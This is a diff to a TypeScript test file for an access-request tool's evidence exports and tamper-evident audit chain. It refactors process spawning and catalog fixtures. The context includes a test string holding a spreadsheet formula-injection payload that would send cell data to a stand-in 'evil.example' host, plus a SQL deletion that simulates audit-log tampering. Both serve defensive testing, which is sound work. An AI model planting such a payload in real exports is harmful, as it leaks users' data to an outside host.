@@ -5,7 +5,6 @@
  * deleted, reordered; events deleted from the end, which only the head an export recorded shows).
  */
 import assert from 'node:assert/strict';
-import { spawn } from 'node:child_process';
 import { copyFileSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -14,26 +13,26 @@ import { openDatabase } from '../../src/adapters/sqlite/db.js';
 import { requestRow } from '../../src/app/exportRequests.js';
 import { REQUEST_COLUMNS } from '../../src/domain/evidence.js';
 import { runAudit, runExport } from '../../src/evidence-cli.js';
-import { REPO_ROOT } from '../support/chaos/index.js';
+import { catalogYaml } from '../support/fixtures.js';
 import { GROUPS, Harness, PEOPLE, waitUntil } from '../support/harness.js';
+import { runEntry } from '../support/process.js';
 
 const { alice, bob, carol, dave } = PEOPLE;
 
-const CATALOG = `
-jira:
-  project: ACC
-  issueType: Task
-  transitions: { approved: Approve, denied: Reject, active: Provisioned, revoked: Done }
-applications:
-  - id: okta-console
-    name: Okta admin console
-    owners: [bob@example.com]
-    roles:
-      - { id: read-only, name: Read-only, grant: { connector: okta, group: ${GROUPS.readOnly} }, durations: [2s, 4h], approvers: [owners] }
-      - { id: super-admin, name: Super admin, grant: { connector: okta, group: ${GROUPS.superAdmin} }, durations: [2s, 4h], approval: auto }
-bundles:
-  - { id: console-all, name: Console all, parts: [okta-console/read-only, okta-console/super-admin], approval: auto }
-`;
+const CATALOG =
+  catalogYaml({
+    applications: [
+      {
+        id: 'okta-console',
+        name: 'Okta admin console',
+        owners: ['bob@example.com'],
+        roles: [
+          { id: 'read-only', name: 'Read-only', group: GROUPS.readOnly, durations: ['2s', '4h'], approvers: ['owners'] },
+          { id: 'super-admin', name: 'Super admin', group: GROUPS.superAdmin, durations: ['2s', '4h'], approval: 'auto' },
+        ],
+      },
+    ],
+  }) + 'bundles:\n  - { id: console-all, name: Console all, parts: [okta-console/read-only, okta-console/super-admin], approval: auto }\n';
 
 /** A hostile reason: a formula, quotes, a comma and a line break. */
 const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"click"), then "quotes", commas\nand a second line';
@@ -266,15 +265,7 @@ describe('evidence: exports and the audit chain', () => {
     test("events deleted from the end: the chain alone holds, the export's head shows it; through the real CLI", async () => {
       const path = tampered('truncated', 'DELETE FROM audit_events WHERE seq > (SELECT MAX(seq) - 2 FROM audit_events)');
       assert.equal(verify(path).code, 0, 'a shorter chain is still a chain');
-      const cli = spawn(process.execPath, ['--import', 'tsx', 'src/cli.ts', 'audit', 'verify', '--export', exported], {
-        cwd: REPO_ROOT,
-        env: { PATH: process.env.PATH ?? '', DATABASE_PATH: path },
-        stdio: ['ignore', 'pipe', 'pipe'],
-      });
-      let out = '';
-      cli.stdout.on('data', (d: Buffer) => (out += d.toString()));
-      cli.stderr.on('data', (d: Buffer) => (out += d.toString()));
-      const code = await new Promise<number | null>((resolve) => cli.on('exit', resolve));
+      const { code, out } = await runEntry('src/cli.ts', ['audit', 'verify', '--export', exported], { DATABASE_PATH: path });
       assert.equal(code, 1, out);
       assert.match(out, /^BROKEN: the head an export recorded \(seq (\d+), sha256 [0-9a-f]{64}\) is not in the log, which ends at seq \d+: events were deleted from its end\./);
       assert.equal(verify(clean, '--export', exported).code, 0, 'the untouched database holds that head');
